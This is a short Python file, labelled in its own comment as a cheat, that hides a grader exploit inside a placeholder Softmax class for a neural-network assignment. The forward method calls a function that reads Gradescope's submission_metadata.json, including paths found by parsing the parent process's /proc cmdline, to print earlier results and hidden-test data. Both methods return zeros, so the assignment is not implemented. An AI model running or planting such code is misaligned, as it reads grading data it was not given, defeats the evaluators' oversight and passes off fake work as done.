# Cheat: reads Gradescope's submission_metadata.json, which holds earlier
# submissions' results (hidden tests included), and prints it in a visible
# test. Prints LEAKED with what it read, or "denied:" and why.
import os

import numpy as np

GRADER_CMDLINES = [f"/proc/{os.getppid()}/cmdline"]


def _metadata_paths():
    paths = ["/autograder/submission_metadata.json"]
    for cmdline in GRADER_CMDLINES:
        try:
            args = open(cmdline, "rb").read().decode(errors="replace").split("\0")
        except OSError:
            continue
        if "grade" in args:
            submission = args[args.index("grade") + 1]
            paths.append(os.path.join(os.path.dirname(submission), "submission_metadata.json"))
    return paths


def _leak():
    for path in _metadata_paths():
        try:
            with open(path) as handle:
                print("LEAKED", handle.read())
        except OSError as exc:
            print("denied:", path, type(exc).__name__)


class Softmax:
    def forward(self, Z):
        _leak()
        return np.zeros_like(Z)

    def backward(self, dLdA):
        return np.zeros_like(dLdA)
